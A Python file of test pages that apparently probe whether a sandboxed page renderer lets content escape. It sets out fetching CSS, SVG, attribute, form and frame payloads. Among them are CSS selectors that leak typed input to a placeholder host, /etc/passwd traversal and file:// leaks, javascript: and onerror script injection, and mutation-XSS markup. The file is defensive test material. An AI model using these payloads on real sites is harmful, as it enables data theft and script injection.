"""More pages that try to get out, by what they try it with: CSS, SVG, attributes, files of their own, keys.

Words in braces as in corpus.py. A page here may bring files beside it: `FILES`.
"""

# ruff: noqa: E501, SIM905

from __future__ import annotations

_PROPERTIES = (
    "background",
    "background-image",
    "border-image",
    "border-image-source",
    "list-style",
    "cursor",
    "mask",
    "mask-image",
    "mask-border",
    "-webkit-mask",
    "-webkit-mask-image",
    "-webkit-mask-box-image",
    "-webkit-border-image",
    "-webkit-box-reflect",
    "clip-path",
    "filter",
    "backdrop-filter",
    "-webkit-filter",
    "shape-outside",
    "offset-path",
    "offset",
    "fill",
    "stroke",
    "marker",
    "marker-start",
    "content",
    "d",
    "path",
    "src",
    "behavior",
    "-ms-filter",
    "animation-timeline",
    "view-transition-name",
    "cue",
    "play-during",
)
_AROUND = (
    "url({web}/u)",
    "url('{web}/q')",
    'url("{name}/n")',
    "src('{web}/src')",
    "image-set('{web}/i' 1x, url({web}/j) 2x type('image/png'))",
    "-webkit-image-set(url({web}/k) 1x)",
    "cross-fade(url({web}/l), url({web}/m), 50%)",
    "-webkit-cross-fade(url({web}/n), url({web}/o), 0.5)",
    "image('{web}/im', red)",
    "url({web}/p#x)",
    "url(//127.0.0.1:{port}/r)",
    "url(http:\\2f\\2f 127.0.0.1:{port}/esc)",
    "url(file://{file}/leak.png)",
    "url(chrome://theme/IDR_LOGO)",
    "url(data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='{web}/in-data'/%3E%3C/svg%3E)",
    "url(blob:{web}/x)",
    "url({web}/mod crossorigin(anonymous) referrerpolicy(unsafe-url))",
    "paint(x, url({web}/paint))",
    "element(#x)",
    "attr(data-u type(<url>))",
    "attr(data-u url)",
    "var(--u)",
    "if(style(--x: 1): url({web}/if); else: url({web}/else))",
)
_WORDS = "<p data-u='{web}/attr' id=x>words <b>more</b></p><ul><li>one</ul><input placeholder=p><svg><path d='M0 0L9 9' /></svg>"

_STYLES = {
    f"css {value.partition('(')[0]} {number}": (
        "<style>:root{--u:url({web}/var);--x:1}p,li,b,input,path,p::before,p::after,li::marker{"
        + ";".join(f"{name}:{value}" for name in _PROPERTIES)
        + "}</style>"
        + _WORDS
    )
    for number, value in enumerate(_AROUND)
}

_AT_RULES = {
    "css import in every way": "".join(
        f"<style>@import {address} {condition};</style>"
        for address in ("'{web}/a.css'", "url({web}/b.css)", "url('{name}/c.css')", "url(file://{file}/leak.css)", "src('{web}/d.css')")
        for condition in ("", "layer", "layer(x)", "supports(display:grid)", "supports(background: url({web}/s))", "screen and (min-width:1px)", "scope((p) to (b))")
    ),
    "css fonts in every way": (
        "<style>@font-face{font-family:f;src:local('no'),url({web}/f.woff2) format('woff2') tech(variations),url({name}/f.ttf) format(truetype),url(file://{file}/f.ttf);unicode-range:U+0-7F}"
        "@font-face{font-family:g;src:url('{web}/g.eot?#iefix') format('embedded-opentype'),url('{web}/g.svg#g') format('svg')}"
        "@font-face{font-family:h;src:url('data:font/woff2;base64,d09GMgABAAAA'),url({web}/h.otf);font-display:block}"
        "@font-palette-values --p{font-family:f}@font-feature-values f{@styleset{x:1}}p{font:20px f,g,h;font-palette:--p}</style><p>words"
    ),
    "css at rules that hold addresses": (
        "<style>@property --p{syntax:'<url>';inherits:true;initial-value:url({web}/prop)}@counter-style c{system:cyclic;symbols:url({web}/symbol) 'x'}"
        "@page{background:url({web}/page);@top-left{content:url({web}/margin)}}@scope(p){b{background:url({web}/scope)}}@layer a{p{background:url({web}/layer)}}"
        "@container(min-width:1px){p{background:url({web}/container)}}@supports(background:url({web}/x)){p{mask:url({web}/supports)}}"
        "@starting-style{p{background:url({web}/starting)}}@keyframes k{from{background:url({web}/from)}to{cursor:url({web}/to),auto}}p{animation:k 1s;background:var(--p)}"
        "@view-transition{navigation:auto}@position-try --x{background:url({web}/try)}@namespace u url({web}/ns);@color-profile --c{src:url({web}/icc)}p{color:color(--c 1 0 0);list-style:c inside;display:list-item}</style><p>words<b>b</b>"
    ),
    "css states and parts": (
        "<style>"
        + "".join(
            f"{part}{{background:url({{web}}/{number});content:url({{web}}/c{number});cursor:url({{web}}/k{number}),auto}}"
            for number, part in enumerate(
                "a:visited,a:link,a:any-link,:target,:hover,:active,:focus,:focus-within,:focus-visible,:autofill,:checked,:default,:placeholder-shown,:user-invalid,:popover-open,:modal,:fullscreen,:playing,"
                "::selection,::first-line,::first-letter,::marker,::placeholder,::file-selector-button,::backdrop,::details-content,::cue,::spelling-error,::target-text,::highlight(x),::view-transition,"
                "::-webkit-scrollbar,::-webkit-scrollbar-thumb,::-webkit-meter-bar,::-webkit-progress-bar,::-webkit-slider-thumb,::-webkit-search-cancel-button,::-webkit-resizer,::scroll-button(*),::scroll-marker,::column,::picker(select),::checkmark".split(",")
            )
        )
        + "select,::picker(select){appearance:base-select}div{overflow:scroll;height:20px;columns:2}</style><a href=#x>a</a><a href='{web}/'>b</a><div>words<br>words<br>words</div>"
        "<input type=search value=x><input type=range><input type=file><meter></meter><progress></progress><details open><summary>s</summary>d</details><select><option>o</select><textarea>x</textarea><input placeholder=p><dialog open>d</dialog>"
    ),
    "css that reads what is typed": (
        "<style>"
        + "".join(f"input[value$='{letter}']{{background:url({{web}}/{letter})}}" for letter in "abcdefghijklmnop")
        + "input:valid{background:url({web}/valid)}@font-face{font-family:spy;src:url({web}/has-a);unicode-range:U+61}input{font-family:spy}:has(input:not(:placeholder-shown)){background:url({web}/typed)}</style><input autofocus value=abc placeholder=p><input type=password value=p>"
    ),
    "css behind broken syntax": "<style>}p{background:url({web}/a}<!-- p{background:url({web}/b)} --> @import '{web}/late.css';p{background:url( \"{web}/c\n\" )}p{back\\67round:u\\72l({web}/d)}\\@import '{web}/e';</style><style type=text/less>@import '{web}/f';</style><p>words",
    "css in attributes of old": "<body text=red background='{web}/bg' bgcolor='url({web}/c)'><table background='{web}/t'><tr background='{web}/tr'><td background='{web}/td' style='background:url({web}/s)'>x<font style=\"list-style:url('{web}/f')\">y</font></table><hr style='border-image:url({web}/hr) 1'><layer background='{web}/l'></layer><ilayer src='{web}/il'></ilayer><bgsound src='{web}/snd'><xml src='{web}/xml'></xml><spacer>",
}  # fmt: skip

_XLINK = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
_SHAPES = {
    "svg elements that fetch": f"<svg {_XLINK} width=90 height=90>"
    + "".join(
        f"<{name} href='{{web}}/{name}' xlink:href='{{name}}/{name}' src='{{web}}/s{name}' width=9 height=9 attributionsrc='{{web}}/at'></{name}>"
        for name in "image use feImage a script style pattern linearGradient radialGradient filter textPath mpath animate set animateMotion cursor tref font-face-uri glyphRef color-profile altGlyph foreignObject iframe discard handler listener audio video canvas".split()
    )
    + "<a href='{web}/a'><rect width=90 height=90 /></a></svg>",
    "svg presentation that fetches": f"<svg {_XLINK}>"
    + "".join(
        f"<rect width=9 height=9 {name}='url({{web}}/{name}#x)' />"
        for name in "fill stroke filter mask clip-path cursor marker-start marker-mid marker-end style".split()
    )
    + "<text fill='url({web}/t#x)'>words</text></svg>",
    "svg animation of addresses": f"<svg {_XLINK}><image width=9 height=9><set attributeName=href to='{{web}}/set'/><animate attributeName=xlink:href values='{{web}}/a;{{web}}/b' dur=.1s /></image>"
    "<a><set attributeName=href to=\"javascript:{ran}\" /><set attributeName=target to=_blank /><text y=20 font-size=30>go go go</text></a><use><set attributeName=href to='{web}/u#x' /></use><script><set attributeName=href to='{web}/s' /></script></svg>",
    "svg links in every way": f"<svg {_XLINK} width=300 height=99><a xlink:href='{{web}}/x' target=_blank><text y=20>go go go</text></a><a href='javascript:{{ran}}' xlink:show=new><rect y=30 width=300 height=30 /></a><a href='{{web}}/ping' ping='{{web}}/p' download=x><rect y=60 width=300 height=30 /></a></svg>",
    "svg scripts in every way": f"<svg {_XLINK} onload=\"{{ran}}\"><script xlink:href='{{web}}/x'/><script type=application/ecmascript>{{ran}}</script><handler type=text/javascript ev:event=load>{{ran}}</handler><animate onbegin=\"{{ran}}\" attributeName=x dur=1s /><title><script>{{ran}}</script></title><desc><img src=x onerror=\"{{ran}}\"></desc></svg>",
    "svg as a picture, a frame, an object, a style": "<img src=more.svg><picture><source srcset=more.svg type=image/svg+xml><img></picture><object data=more.svg></object><embed src=more.svg><iframe src=more.svg></iframe><svg><image href=more.svg width=9 height=9 /><use href='more.svg#x' /></svg><div style='background:url(more.svg);mask:url(more.svg#m);filter:url(more.svg#f);clip-path:url(more.svg#c)'>x</div><link rel=icon href=more.svg><video poster=more.svg></video><input type=image src=more.svg>",
    "mathml in every way": "<math xmlns:xlink='http://www.w3.org/1999/xlink'><mrow href='{web}/r' xlink:href='{web}/x'><mi href=\"javascript:{ran}\">go go go go</mi></mrow><mglyph src='{web}/g' /><annotation-xml encoding='text/html'><img src='{web}/axml' onerror=\"{ran}\"><iframe src='{web}/f'></iframe></annotation-xml><maction actiontype=toggle href='{web}/m'><mi>a</mi><mi>b</mi></maction><semantics definitionURL='{web}/d' cdbase='{web}/c'></semantics></math>",
}  # fmt: skip

_PLACES = {
    "attributes that fetch": "".join(
        f"<{name} src='{{web}}/{name}1' href='{{web}}/{name}2' data='{{web}}/{name}3' srcset='{{web}}/{name}4 1x' poster='{{web}}/{name}5' background='{{web}}/{name}6' code='{{web}}/{name}7' codebase='{{web}}/' classid='{{web}}/{name}8' archive='{{web}}/{name}9' manifest='{{web}}/{name}10' "
        f"profile='{{web}}/{name}11' longdesc='{{web}}/{name}12' cite='{{web}}/{name}13' icon='{{web}}/{name}14' imagesrcset='{{web}}/{name}15' formaction='{{web}}/{name}16' action='{{web}}/{name}17' attributionsrc='{{web}}/{name}18' ping='{{web}}/{name}19' lowsrc='{{web}}/{name}20' dynsrc='{{web}}/{name}21' value='{{web}}/{name}22' usemap='{{web}}/{name}23' itemid='{{web}}/{name}24' rel='stylesheet preload prefetch' as=image></{name}>"
        for name in "img image input audio video source track embed object iframe frame portal fencedframe applet param link script body table td area a form button base command menuitem bgsound layer html svg isindex keygen model webview browser controlledframe permission".split()
    ),
    "preloads of every kind": "".join(
        f"<link rel={kind} href='{{web}}/{kind}{number}' as={what} imagesrcset='{{web}}/set{number} 1x' imagesizes=100vw fetchpriority=high blocking=render crossorigin media=all>"
        for kind in ("preload", "prefetch", "modulepreload", "prerender")
        for number, what in enumerate("audio document embed fetch font image object script style track video worker sharedworker json".split())
    ),
    "links of the head that nobody knows": "".join(
        f"<link rel='{kind}' href='{{web}}/{number}'><link rel='{kind}' href='{{name}}/'>"
        for number, kind in enumerate(
            "shortcut_icon mask-icon fluid-icon apple-touch-startup-image image_src alternate canonical amphtml dns-prefetch preconnect subresource serviceworker import webmention author license privacy-policy terms-of-service me monetization dictionary compression-dictionary preload-script openid.server p3pv1 hub edituri wlwmanifest shortlink chrome-webstore-item dcterms.license facilitated-payment web-bundle resources facilitated-payment up-link token-endpoint".replace("_", " ").split(" ")
        )
    ),
    "metas that do something": (
        "<meta http-equiv=Refresh content='0; URL={web}/r'><meta http-equiv=refresh content=\"0;data:text/html,<script>{ran}</script>\"><meta http-equiv=refresh content='0;url=about:blank#x'>"
        "<meta http-equiv=Link content=\"<{web}/link.css>; rel=stylesheet\"><meta http-equiv=Link content=\"<{web}>; rel=preconnect\"><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=Accept-CH content='Sec-CH-UA, Viewport-Width'><meta http-equiv=Delegate-CH content='sec-ch-ua {web}'>"
        "<meta http-equiv=origin-trial content=x><meta http-equiv=Content-Security-Policy-Report-Only content=\"default-src 'none'; report-uri {web}/ro\"><meta http-equiv=Reporting-Endpoints content='x=\"{web}/re\"'><meta http-equiv=NEL content='{}'><meta http-equiv=default-style content=x><meta http-equiv=Window-target content=_top><meta http-equiv=PICS-Label content='{web}'><meta http-equiv=Set-Cookie content='a=b'>"
        "<meta name=referrer content=unsafe-url><meta name=monetization content='{web}'><meta name=msapplication-config content='{web}/b.xml'><meta property=og:image content='{web}/og.png'><meta name=twitter:image content='{web}/t'><meta name=theme-color content=red><a rel=preconnect href='{web}/'>a</a>"
    ),
    "forms of every kind": "".join(
        f"<form action='{{web}}/f{number}' method={method} enctype={kind} target={target} accept-charset=utf-7><input name=a value=b><input type=file name=f><input type=hidden name=_charset_><button>send</button></form>"
        for number, (method, kind, target) in enumerate(
            (
                ("get", "x", "_self"),
                ("post", "multipart/form-data", "_blank"),
                ("post", "text/plain", "_top"),
                ("dialog", "x", "_parent"),
                ("put", "application/json", "other"),
            )
        )
    ),
    "buttons outside their form": "<form id=f action='{web}/f'></form><button form=f>send</button><button form=f formaction='{web}/g' formmethod=post formtarget=_blank formenctype=multipart/form-data formnovalidate>send</button><input type=image form=f formaction='{web}/i' src=own.png><input type=submit form=f formaction=\"javascript:{ran}\" value=send><isindex action='{web}/is'><input form=f autofocus value=x>",
    "links with every attribute": "<a href='{web}/a' target=_blank rel=opener ping='{web}/p' download=x.exe attributionsrc='{web}/at' referrerpolicy=unsafe-url hreftranslate=de interestfor=x type=text/html>go go go</a><a href='' target='{web}'>go go go</a><a href='#' onclick=\"{ran}\" onauxclick=\"{ran}\">go go go</a><a href=index.html target=_top>go go go</a><a href=other.html>go go go</a><a href=?x>go go go</a>",
    "frames of every kind": "".join(
        f"<iframe src=\"{address}\" name=n{number} allow='*' csp='default-src *' credentialless sandbox='allow-scripts allow-same-origin allow-top-navigation allow-popups' loading=eager></iframe>"
        for number, address in enumerate(
            ("about:blank", "about:srcdoc", "data:text/html,<script>top.{ran}</script><img src={web}/d>", "blob:null/x", "index.html", "javascript:top.{ran}", "{web}/f", "view-source:{web}", "file://{file}/leak.html", "chrome://gpu", "midweek-page://page/v1/index.html", "midweek-page://other/v1/index.html", "midweek-editor://app/index.html", "filesystem:midweek-page://page/x")
        )
    )
    + "<a href='{web}/in' target=n0>go go go</a><form action='{web}/in' target=n1><button>go</button></form>",
    "srcdoc that holds everything": "<iframe srcdoc=\"<base href='{web}/'><meta http-equiv=refresh content='0;url={web}/sr'><link rel=stylesheet href=s.css><img src=i><style>@import '{web}/i.css'</style><iframe srcdoc='<img src={web}/deep>'></iframe><form action=f><button autofocus>x</button></form><script>parent.{ran}</script>\"></iframe>",
    "sound and film of every kind": "<audio controls autoplay loop muted preload=auto src='{web}/a'><source src='{web}/b' type=audio/ogg></audio><video autoplay muted playsinline preload=metadata poster='{web}/p' src='{web}/v.m3u8'><source src='{web}/s.mpd'><track kind=captions default src='{web}/t.vtt'></video><video controls src='blob:{web}/x' autopictureinpicture disableremoteplayback=false controlslist=x></video><video controls><source srcset='{web}/ss' media=all></video><embed src='{web}/e.mid' autostart=true hidden=true>",
    "shadow roots of every kind": "<div><template shadowrootmode=closed shadowrootdelegatesfocus shadowrootclonable><style>@import '{web}/s.css';:host{background:url({web}/h)}::slotted(*){background:url({web}/sl)}</style><slot></slot><iframe srcdoc='<script>top.{ran}</script>'></iframe><a href='{web}/a' autofocus>go go go</a><input type=color><script>{ran}</script></template><p>words</p></div>",
    "things that call for a permission": "<geolocation autolocate accuracymode=precise>x</geolocation><permission type='camera microphone'>x</permission><usermedia type=camera>x</usermedia><install installurl='{web}/i'>x</install><input type=file capture=user accept=image/*><button command=request-fullscreen commandfor=v>x</button><video id=v controls></video><link rel=manifest href='{web}/m.json'><selectmenu popup>x</selectmenu><model src='{web}/m'></model><input x-webkit-speech speech>",
    "popups and pickers": "<select size=1 autofocus>"
    + "<option>words</option>" * 30
    + "</select><select multiple><option>a</select><input type=date value=2026-01-01><input type=time><input type=month><input type=week><input type=datetime-local><input type=color list=l><datalist id=l><option value=#ff0000></datalist><input list=l type=email autocomplete=email><input type=file webkitdirectory><button popovertarget=p popovertargetaction=show>open</button><div popover=manual id=p><input type=color autofocus><a href='{web}/p'>go go go</a></div><details name=d open><summary>s</summary>x</details>",
    "keys that a page may take": "<body accesskey=s contenteditable tabindex=0>"
    + "".join(
        f"<a href='{{web}}/{key}' accesskey={key}>go</a><button accesskey={key} formaction='{{web}}/b{key}'>b</button>"
        for key in "abcdefghijklmnopqrstuvwxyz0123456789"
    ),
    "what may be dragged": "<a draggable=true href='{web}/drag'>drag drag</a><img draggable=true src=own.png><p draggable=true>text</p><div dropzone='copy string:text/uri-list' ondrop=\"{ran}\">drop here</div><textarea>drop here</textarea><input value='drop here'>",
    "speculation": "<script type=speculationrules>{\"prerender\":[{\"source\":\"list\",\"urls\":[\"{web}/a\"],\"eagerness\":\"immediate\"}],\"prefetch\":[{\"source\":\"document\",\"where\":{\"href_matches\":\"/*\"},\"eagerness\":\"immediate\"}]}</script><link rel=expect href=#x blocking=render><a href='{web}/spec'>go go go</a><script type=importmap>{\"imports\":{\"x\":\"{web}/x.js\"},\"integrity\":{\"{web}/x.js\":\"x\"}}</script><script type=module>import '{web}/m.js'</script><script nomodule src='{web}/n.js'></script>",
    "xhtml and processing": "<?xml version='1.0'?><?xml-stylesheet href='{web}/x.css'?><?import namespace=t implementation='{web}/htc'?><!DOCTYPE html PUBLIC '-//x' '{web}/x.dtd' [<!ENTITY % p SYSTEM '{web}/e'> %p;]><html xmlns='http://www.w3.org/1999/xhtml' xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{web}/inc'/><x:script xmlns:x='http://www.w3.org/1999/xhtml' src='{web}/xs'/><![CDATA[<img src='{web}/cdata'>]]><!--[if gte IE 4]><script>{ran}</script><![endif]--><xsl:stylesheet><xsl:include href='{web}/inc.xsl'/></xsl:stylesheet>",
    "a style sheet of its own that fetches": "<link rel=stylesheet href=more.css><link rel='alternate stylesheet' title=x href=more.css><link rel=stylesheet href=more.css media='(min-width:1px)'><p>words",
    "names that the server must not take": "<img src='/v1/../../../../etc/passwd'><img src='//page/leak.png'><img src='midweek-page://page@127.0.0.1:{port}/x.png'><img src='midweek-page:{web}/x'><link rel=stylesheet href='midweek-page://page/v1/%00{file}/leak.css'><img src='midweek-page://page//v1//own.png%2500'><link rel=stylesheet href='v1/..%5c..%5c{file}/leak.css'><img src='MIDWEEK-PAGE://PAGE/v1/{file}/leak.png'>",
    "mutations of markup": "<svg><p><style><img src=x onerror=\"{ran}\"></style></p></svg><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={ran}&gt;\"></style></mglyph></table></mtext></math><noscript><p title=\"</noscript><img src=x onerror={ran}>\"></noscript><template><script>{ran}</script></template><xmp><p title=\"</xmp><script>{ran}</script>\"></xmp><plaintext><img src='{web}/plain'>",
}  # fmt: skip

WIDER = {**_STYLES, **_AT_RULES, **_SHAPES, **_PLACES}

FILES = {
    "more.svg": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'><?xml-stylesheet href='{web}/s.css'?><script>{ran}</script><script href='{web}/x'/><image href='{web}/i' width='9' height='9'/><image xlink:href='file://{file}/leak.png' width='9' height='9'/><use href='{web}/u#x'/><style>@import '{web}/i.css';*{{fill:url({web}/f#x)}}@font-face{font-family:f;src:url({web}/f.woff)}text{font-family:f}</style><text>x</text><foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='{web}/fo'/><iframe xmlns='http://www.w3.org/1999/xhtml' src='{web}/fr'/></foreignObject><filter id='f'><feImage href='{web}/fe'/></filter><mask id='m'><image href='{web}/m' width='9' height='9'/></mask><clipPath id='c'><use href='{web}/c#x'/></clipPath></svg>",
    "more.css": "@import '{web}/i.css';@import url({name}/n.css) layer(x);@font-face{font-family:f;src:url({web}/f.woff)}p{font-family:f;background:url({web}/b);cursor:url(file://{file}/leak.png),auto}@namespace url({web}/ns);",
}
